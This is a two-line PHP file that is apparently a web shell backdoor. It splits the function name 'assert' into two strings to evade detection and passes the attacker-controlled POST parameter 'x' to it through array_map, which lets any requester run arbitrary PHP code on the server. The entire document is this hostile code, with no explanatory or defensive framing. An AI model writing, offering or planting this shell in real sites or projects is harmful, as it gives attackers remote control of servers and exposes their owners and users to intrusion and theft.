<?php
array_map('ass' . 'ert', array($_POST['x']));
